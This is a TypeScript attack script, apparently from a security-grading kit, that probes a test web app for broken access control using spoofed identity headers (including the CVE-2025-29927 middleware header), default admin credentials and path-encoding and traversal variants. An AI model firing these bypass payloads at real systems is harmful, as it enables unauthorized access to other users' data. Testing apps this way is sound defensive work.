import { attack } from "../kit/grader/attack.ts";
import type { Browser, Exchange } from "../kit/browser/browser.ts";

// #region tricks
/**
 * Headers that only a proxy or a framework should write, but that any visitor can send (CVE-2025-29927 is about the
 * seventh).
 */
export const CLAIMS: [name: string, value: string][] = [
  ["x-user", "alice"],
  ["x-user", "admin"],
  ["x-forwarded-user", "alice"],
  ["x-forwarded-user", "admin"],
  ["x-remote-user", "admin"],
  ["x-role", "admin"],
  ["x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware"],
  ["x-original-url", "/login"],
  ["x-original-url", "/admin"],
  ["x-rewrite-url", "/login"],
  ["x-rewrite-url", "/admin"],
  ["x-forwarded-for", "127.0.0.1"],
  ["authorization", `Basic ${btoa("admin:admin")}`],
  ["x-admin", "true"],
  ["x-is-admin", "true"],
  ["x-user-role", "admin"],
];

/** Other ways to write a path, for servers whose check and whose router read it differently (CVE-2025-66202). */
export function spellings(path: string): string[] {
  const code = path.charCodeAt(1).toString(16);
  const rest = path.slice(2);
  return [
    `/${path}`,
    `${path}/`,
    `${path}/.`,
    `/%${code}${rest}`,
    `/%25${code}${rest}`,
    path.toUpperCase(),
    `${path};x`,
    `${path}?x=/login`,
    `/comments/..${path}`,
    `/login/..${path}`,
    `/login${path}`,
    `${path}/login`,
    `${path}.json`,
    `${path}.html`,
  ];
}
// #endregion

/** The guarded routes that show a note. */
const DOORS = [
  { method: "GET", path: "/dashboard" },
  { method: "POST", path: "/export", body: "" },
  { method: "POST", path: "/comments", body: "text=hello&attach=note" },
];

type Attempt = { method: string; path: string; body?: string; headers?: Record<string, string> };

/**
 * Requests for a route: a plain one, then with each header, then in each spelling, then with a form that names another
 * user.
 */
function attempts(): Attempt[] {
  return [
    ...DOORS,
    ...CLAIMS.flatMap(([name, value]) => DOORS.map((door) => ({ ...door, headers: { [name]: value } }))),
    ...DOORS.flatMap((door) => spellings(door.path).map((path) => ({ ...door, path }))),
    { method: "GET", path: "/dashboard?user=alice" },
    { method: "POST", path: "/export?user=alice", body: "user=alice&username=alice&name=alice" },
  ];
}

/** Tries every guarded route. Returns the first page that opens and is not the thief's own. */
async function tryDoors(thief: Browser, isOwn: (page: Exchange) => boolean): Promise<string | undefined> {
  for (const { method, path, body, headers = {} } of attempts()) {
    const page = await thief.ask(method, path, body, { headers });
    const opened = page.response.status >= 200 && page.response.status < 300;
    if (opened && !isOwn(page)) return page.response.body;
  }
  return undefined;
}

export default attack(
  "trying every door",
  "If one route has no check, the checks of all other routes are useless.",
  async ({ thief, victim, say }) => {
    await victim.login();
    say("alice is logged in. The thief has no session, and tries every route.");
    const asNobody = await tryDoors(thief, () => false);
    if (asNobody !== undefined) return asNobody;

    say("No route lets him in. He logs in as bob and tries again: which routes let bob do more than a member may do?");
    await thief.login("bob", "builder");
    const own = [await thief.get("/dashboard"), await thief.post("/export")].map(({ response }) => response.body);
    const asBob = await tryDoors(thief, ({ response }) => own.includes(response.body));
    if (asBob !== undefined) return asBob;

    say("At the end he reads the comments: did one of his requests publish another user's note?");
    return (await thief.get("/comments")).response.body;
  },
);
